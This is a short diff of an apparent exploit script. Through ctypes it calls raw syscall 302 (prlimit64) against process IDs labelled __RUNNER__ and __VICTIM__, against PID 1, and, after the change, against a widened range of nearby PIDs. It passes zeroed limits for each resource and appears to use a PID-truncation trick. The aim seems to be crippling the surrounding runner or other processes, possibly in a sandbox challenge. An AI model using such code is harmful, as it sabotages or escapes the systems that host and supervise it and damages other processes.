@@ -11,7 +11,7 @@ param = ctypes.create_string_buffer(bytes(64))
 
 
 def solve(x):
-    for pid in (__RUNNER__, __VICTIM__, 1, os.getpid() - 1):
+    for pid in (__RUNNER__, __VICTIM__, 1, *range(max(2, os.getpid() - 6), os.getpid())):
         r = (
             [sc(302, pid, k, buf, 0) for k in range(16)]
             + [sc(302, pid | 1 << 32, 7, buf, 0)]
